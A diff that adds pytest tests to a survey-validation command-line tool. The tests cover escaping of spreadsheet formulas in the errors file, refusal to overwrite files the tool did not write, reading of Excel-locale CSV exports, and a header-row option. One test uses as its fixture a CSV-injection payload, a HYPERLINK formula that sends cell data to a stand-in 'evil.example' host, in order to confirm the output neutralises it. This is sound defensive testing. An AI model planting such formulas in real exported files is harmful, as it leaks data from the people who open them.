@@ -211,3 +211,80 @@ def test_write_failure_names_the_output_file(capsys):
 def test_out_directory_is_refused(capsys, tmp_path):
     code, _, err = run(capsys, "validate", str(BAD / "good.csv"), "--spec", SPEC, "--out", str(tmp_path))
     assert code == 2 and "is a directory; give the name of a CSV file" in err
+
+
+# ------------------------------------------------------------------ issue 9: the errors file and reader options
+def test_errors_csv_cannot_attack_its_reader(capsys, tmp_path):
+    """A commune name that is a spreadsheet formula is written as text (OWASP), numbers unchanged."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    text = (BAD / "good.csv").read_text(encoding="utf-8").replace("Phường Minh Tân", evil.replace('"', '""'))
+    text = text.replace(evil.replace('"', '""'), '"' + evil.replace('"', '""') + '"')  # a quoted CSV field
+    survey = tmp_path / "evil.csv"
+    survey.write_text(text, encoding="utf-8")
+    out_csv = tmp_path / "errors.csv"
+    code, _, _ = run(capsys, "validate", str(survey), "--spec", SPEC, "--frame", FRAME, "--out", str(out_csv))
+    assert code == 1
+    e = pd.read_csv(out_csv, encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    cells = [c for col in e.columns for c in e[col]]
+    assert any(evil in c for c in cells)  # the name is reported ...
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]  # ... but never live
+    assert "'" + evil in cells
+
+
+def test_out_never_overwrites_a_file_it_did_not_write(capsys, tmp_path):
+    thesis = tmp_path / "thesis.csv"
+    thesis.write_text("my,own\n1,2\n", encoding="utf-8")
+    code, _, err = run(capsys, "validate", str(BAD / "good.csv"), "--spec", SPEC, "--out", str(thesis))
+    assert code == 2 and "is not a list of problems written by happiness-index" in err
+    assert thesis.read_text(encoding="utf-8") == "my,own\n1,2\n"
+    # an earlier list of problems (or an empty file) is replaced, atomically (no temporary file left)
+    out_csv = tmp_path / "errors.csv"
+    out_csv.write_bytes(b"")
+    for survey in ("out_of_range_code.csv", "good.csv"):
+        code, _, _ = run(capsys, "validate", str(BAD / survey), "--spec", SPEC, "--out", str(out_csv))
+        assert code in (0, 1)
+    assert pd.read_csv(out_csv, encoding="utf-8-sig").empty
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["errors.csv", "thesis.csv"]
+
+
+def _excel_locale_copy(tmp_path) -> Path:
+    """good.csv as saved by Excel in the Vietnamese locale: ';' fields, ',' decimals, '.' thousands."""
+    d = pd.read_csv(BAD / "good.csv").convert_dtypes()  # whole numbers stay whole (7, not 7.0), as Excel writes them
+    d["w"] = [f"{10 * w:,.1f}".replace(",", " ").replace(".", ",").replace(" ", ".") for w in d["w"]]
+    p = tmp_path / "vi.csv"
+    d.to_csv(p, sep=";", index=False)
+    return p
+
+
+def test_reader_options_read_the_office_export(capsys, tmp_path, monkeypatch):
+    p = _excel_locale_copy(tmp_path)
+    assert "1.205,0" in p.read_text(encoding="utf-8")
+    seen = {}
+    import happiness_index.reading.schema as schema
+
+    orig = schema.validate_survey
+
+    def spy(data, *a, **k):
+        seen["w"] = data["w"].tolist()
+        return orig(data, *a, **k)
+
+    monkeypatch.setattr(schema, "validate_survey", spy)
+    code, out, err = run(capsys, "validate", str(p), "--spec", SPEC, "--frame", FRAME, "--sep", ";", "--decimal", ",",
+                         "--thousands", ".", "--frame-sep", ",")
+    assert code == 0, out + err
+    assert seen["w"] == [1205.0, 980.0, 1100.0, 875.0, 1010.0, 950.0, 900.0, 1300.0]
+
+
+def test_header_row_option(capsys, tmp_path):
+    """--header-row: a table under title rows (read_survey's header_row, when this version has it)."""
+    import inspect
+
+    from happiness_index.reading.files import read_survey
+
+    p = tmp_path / "titled.csv"
+    p.write_text("BÁO CÁO KHẢO SÁT\n\n" + (BAD / "good.csv").read_text(encoding="utf-8"), encoding="utf-8")
+    code, out, err = run(capsys, "validate", str(p), "--spec", SPEC, "--header-row", "3")
+    if "header_row" in inspect.signature(read_survey).parameters:
+        assert code == 0, out + err
+    else:
+        assert code == 2 and "--header-row (reading the survey) is not supported by this version's reader" in err
